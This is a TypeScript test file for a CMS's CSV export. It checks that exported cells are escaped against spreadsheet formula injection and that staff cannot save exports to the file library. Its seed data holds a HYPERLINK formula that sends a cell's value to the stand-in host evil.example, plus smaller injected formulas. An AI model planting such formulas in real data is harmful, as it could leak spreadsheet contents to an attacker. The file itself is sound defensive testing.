import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { agentRole } from '#cms/access/agent.ts';
import { editorRole } from '#cms/access/editor.ts';
import { sampleStaff } from '#cms/access/sample-staff.ts';
import { colleague } from '../staff.ts';
import { admin, adminToken, ask, eventually, signIn } from '../system.ts';

const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")';
const PHONE = '+201001234567';

/** Cells as a spreadsheet would read them. */
const cells = (csv: string) => [...csv.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\n]*)/gm)].map(([, cell = '']) => cell.replace(/^"|"$/g, ''));
const live = (csv: string) =>
	cells(csv.replace(/^\ufeff/, '')).filter((cell) => /^\s*[=+\-@]/.test(cell) && !/^(\+\d+|-[\d.]+)$/.test(cell));

let enquiry = 0;
let person = 0;
const files: string[] = [];

beforeAll(async () => {
	({ id: person } = await admin.post<{ id: number }>('/items/person', { name: FORMULA }));
	({ id: enquiry } = await admin.post<{ id: number }>('/items/enquiry', {
		name: FORMULA,
		phone: PHONE,
		email: '@SUM(1+1)',
		message: '-2+3\n=1+1',
		first_touch: { referrer: '=1+1', tags: { utm_source: '+1+1' } },
		person,
	}));
	await admin.patch(`/items/enquiry/${enquiry}`, { person });
	const form = new FormData();
	form.set('title', FORMULA);
	form.set('file', new Blob(['%PDF-1.4'], { type: 'application/pdf' }), 'x.pdf');
	files.push((await admin.post<{ id: string }>('/files?fields=id', form)).id);
});
afterAll(async () => {
	await admin.delete('/items/enquiry', [enquiry]);
	await admin.delete('/items/person', [person]);
	await admin.delete('/files', files);
});

const fields = 'name,phone,email,message,first_touch,person.name';

describe.each(['csv', 'csv_utf8'])('an export as %s', (format) => {
	test.each([
		['what visitors send', () => `/items/enquiry?filter[id][_eq]=${enquiry}&fields=${fields}`],
		['files', () => `/files?filter[id][_eq]=${files[0]}&fields=id,title`],
		['one row alone', () => `/items/enquiry/${enquiry}?fields=${fields}`],
	])('of %s holds no live formula', async (_what, path) => {
		const { status, text } = await ask('GET', `${path()}&export=${format}`, adminToken);
		expect(status).toBe(200);
		expect(text).toContain("'=HYPERLINK");
		expect(live(text)).toEqual([]);
	});

	test('keeps phone numbers as they are', async () => {
		const { text } = await ask('GET', `/items/enquiry?filter[id][_eq]=${enquiry}&fields=phone&export=${format}`, adminToken);
		expect(text).toContain(`"${PHONE}"`);
	});

	test('made for a member of staff holds none either', async () => {
		const token = await signIn(sampleStaff.editor);
		const { text } = await ask('GET', `/items/enquiry?filter[id][_eq]=${enquiry}&fields=name&export=${format}`, token);
		expect(text).toContain("'=HYPERLINK");
	});

	test('that is saved as a file holds none either', async () => {
		const title = `formulas ${format} ${enquiry}`;
		const query = { filter: { id: { _eq: enquiry } }, fields: fields.split(','), limit: -1 };
		expect((await ask('POST', '/utils/export/enquiry', adminToken, { query, format, file: { title } })).status).toBeLessThan(300);
		const [file] = await eventually(async () => {
			const found = await admin.search<{ id: string; filesize: number | null }[]>('/files', {
				filter: { title: { _eq: title } },
				fields: ['id', 'filesize'],
				limit: 1,
			});
			return found[0]?.filesize ? found : null;
		}, 'the exported file');
		files.push(file?.id ?? '');
		const { text } = await ask('GET', `/assets/${file?.id}`, adminToken);
		expect(text).toContain("'=HYPERLINK");
		expect(text).toContain(PHONE);
		expect(live(text)).toEqual([]);
	});
});

test('staff download exports, and save none to the file library', async () => {
	const query = { fields: ['*'], limit: -1 };
	for (const token of [null, (await colleague(agentRole)).token, (await colleague(editorRole)).token])
		for (const path of ['/utils/export/property', '/UTILS/Export/property'])
			expect((await ask('POST', path, token, { query, format: 'csv', file: { title: 'refused' } })).status).toBe(403);
});

test('an export as JSON is left as it is', async () => {
	const { text } = await ask('GET', `/items/enquiry?filter[id][_eq]=${enquiry}&fields=name,message&export=json`, adminToken);
	expect(JSON.parse(text)).toEqual([{ name: FORMULA, message: '-2+3\n=1+1' }]);
});
